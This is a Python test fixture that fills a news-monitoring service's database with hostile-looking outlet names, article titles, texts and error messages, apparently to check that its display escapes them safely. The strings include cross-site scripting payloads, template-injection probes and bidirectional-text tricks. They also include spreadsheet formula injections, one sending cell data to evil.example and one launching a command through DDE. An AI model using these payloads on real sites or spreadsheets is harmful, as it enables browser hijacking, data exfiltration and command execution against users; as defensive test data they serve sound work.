"""What outlets may publish to hurt whoever looks at it, and what is merely hard to show; taken in by the service."""

from __future__ import annotations

from contextlib import closing
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING

from monitor.core.alerting import Freshness, Route
from monitor.core.delivery.deliveries import Recipient
from monitor.core.delivery.silencing import Silence
from monitor.core.matching import Matcher
from monitor.core.models import Fetched, Pending, Verdict
from monitor.jobs.ingest import Ingestor
from monitor.packs import load_pack
from monitor.store.database import open_history, rows, transaction
from monitor.store.feedback import Feedback
from monitor.store.history import History
from monitor.store.ingesting import store
from monitor.store.ledger import Ledger
from monitor.store.regrouping import Regrouping
from monitor.store.silences import Silences
from monitor.store.sources import Sources
from spiders.items import Article, CrawlReport, Entry, Kind, Outcome, Source

if TYPE_CHECKING:
    from monitor.jobs.taking import Taken
    from monitor.store.database import Database

PACK = Path(__file__).parents[2] / "system" / "pack"
SCRIPT = "<script>window.owned=1</script><img src=x onerror=window.owned=1>"
QUOTES = "\" ' onmouseover=window.owned=1 x='</title></textarea>{{7*7}}${7*7}"
BIDI = "\u202egnp.exe\u202c \u2066left\u2069 \u200fmark\u200e \x1b[31mred\x07"
LONG = "Ü" * 500
MARKS = "Z" + "\u0301\u0328\u0334" * 30 + "algo 👩‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿"
OUTLET = f"The <b>Herald</b> {QUOTES}"
AUTHOR = f"Anna {SCRIPT} {BIDI}"
NOTE = f"not news {SCRIPT} {MARKS}"
TITLE = f"{SCRIPT} Strike in the port of Norwick {QUOTES} {BIDI} {LONG} {MARKS}"
TEXT = f"""800 dockers are on strike in the port of Norwick, the union said. {SCRIPT}
javascript:window.owned=1 {QUOTES}

A crane stands still {BIDI}. {LONG} {MARKS}"""
ARABIC = "إضراب dockers في port of Norwick: strike يوقف العمل (800 عامل)"
COPIES = 40
_JUDGED = 20  # copies; deciding about each of thousands would say the same for minutes
HOSTILE = Article("https://herald.example/1?a=1&b=%22%3E", TITLE, TEXT, "en", None, AUTHOR)
RIGHT_TO_LEFT = Article(
    "https://nashr.example/2",
    ARABIC,
    f"{ARABIC}.\n\n{'كلمة ' * 40}the port of Norwick: a strike, 1,200 dockers.",
    "ar",
)
FIRE = Article(
    "https://herald.example/fire",
    "Fire on a dredger in the port of Norwick",
    "A blaze broke out on a dredger in the port of Norwick; 40 passengers were taken off.",
    "en",
)
FORMULA = Article(
    "https://herald.example/formula",
    '=HYPERLINK("https://evil.example/?"&A1,"Lighthouse in the port of Norwick")',
    "@SUM(1+1)*cmd|' /C calc'!A0 A lighthouse in the port of Norwick was sold.",
    "en",
    None,
    "+49 30 1234",
)
WIRE = Article(
    "https://wire.example/0",
    "Smuggling in the port of Norwick: 300 passengers held",
    "Smugglers hid among 300 passengers in the port of Norwick. All were sold tickets.",
    "en",
)


@dataclass
class Press:
    """Publishes, at a time of its own, and takes in what is published."""

    db: Database
    at: datetime

    def __post_init__(self) -> None:
        self.sources = Sources(self.db)
        known = {state.source.name: state.source for state in self.sources.states()}
        ours = {source.name: source for source in _outlets()}
        self.sources.sync([*(known | ours).values()], self.at)
        self.ingestor = Ingestor(
            History(self.db),
            Matcher([load_pack(PACK)]),
            (Route("desk", (Recipient("desk", "anna"), Recipient("desk", "ben"))),),
            Freshness(),
        )

    def publish(
        self, article: Article, source: str = "herald", after: timedelta = timedelta(seconds=10)
    ) -> Taken:
        """Take it in, as if its source had just listed it."""
        self.at += after
        found = self.at - timedelta(seconds=5)
        pending = Pending(Entry(article.url, article.title, "", found), source, article.language, found)
        dated = replace(article, published=article.published or found)
        return self.ingestor.take(pending, dated, self.at, Fetched(article.url))

    def wire(self, copies: int) -> None:
        """One text under many addresses: some are judged, the others stored as the last of those was."""
        step = timedelta(seconds=2)
        for number in range(min(copies, _JUDGED)):
            taken = self.publish(replace(WIRE, url=f"https://wire.example/{number}"), "wire", step)
        with transaction(self.db):
            for number in range(_JUDGED, copies):
                self.at += step
                url = f"https://wire.example/{number}"
                text = replace(taken.ingest.article, url=url, published=self.at - timedelta(seconds=5))
                store(self.db, replace(taken.ingest, entry=url, article=text, read_at=self.at, fetched=None))

    def look(self, source: str, report: CrawlReport) -> None:
        """Store how a look at a source ended."""
        self.sources.save_look(
            source, report, next_due=self.at + timedelta(minutes=5), now=self.at, baseline_before=None
        )


def _outlets() -> tuple[Source, ...]:
    return (
        Source("herald", OUTLET, "https://herald.example/rss", Kind.FEED, "en", "GB", ("wire",)),
        Source("nashr", "نشرة الميناء", "https://nashr.example/rss", Kind.FEED, "ar", "EG"),
        Source("wire", "Agency " + LONG[:120], "https://wire.example/map", Kind.SITEMAP, "en", "GB"),
    )


def publish_all(path: Path, *, copies: int = COPIES) -> None:
    """Everything that is hard to show, over the last day."""
    with closing(open_history(path)) as db:
        db.execute("PRAGMA synchronous = OFF").fetchall()  # this history may be lost when the power fails
        press = Press(db, datetime.now(UTC) - timedelta(hours=23))
        first = press.publish(HOSTILE)
        _send(db, press.at)
        later = TEXT.replace("800", "950") + "\nFerries wait."
        press.publish(replace(HOSTILE, text=later), after=timedelta(hours=1))
        arabic = press.publish(RIGHT_TO_LEFT, "nashr")
        press.publish(FIRE, after=timedelta(hours=2))
        press.publish(FORMULA)
        press.wire(copies)
        _judge(db, press.at, first.stored.article, arabic.stored.article)
        press.look(
            "nashr", CrawlReport("", Outcome.FAILED, reason="http_500", detail=f"it says {SCRIPT} {QUOTES}")
        )


def _send(db: Database, at: datetime) -> None:
    """One message arrives, one is refused in hostile words."""
    ledger = Ledger(db)
    lease = timedelta(minutes=1)
    one, two = ledger.claim(at + lease, lease=lease, limit=2)
    ledger.sent([delivery.id for delivery in one.deliveries], at + lease)
    ledger.failed(
        [delivery.id for delivery in two.deliveries],
        at + lease,
        error=f"550 {SCRIPT} {QUOTES} {BIDI}",
        retry_at=None,
        reason="smtp_550",
    )


def _judge(db: Database, at: datetime, hostile: int, arabic: int) -> None:
    """What people said and did, in words as hostile as the rest."""
    Feedback(db).add(Verdict.IRRELEVANT, now=at, article=hostile, note=NOTE)
    (row,) = rows(db, "SELECT story FROM articles WHERE id = ?", (arabic,))
    Regrouping(db).split(row["story"], [arabic], now=at, note=NOTE)
    Silences(db).add(Silence(0, NOTE, NOTE, at, at + timedelta(days=1), channel="desk"), at)
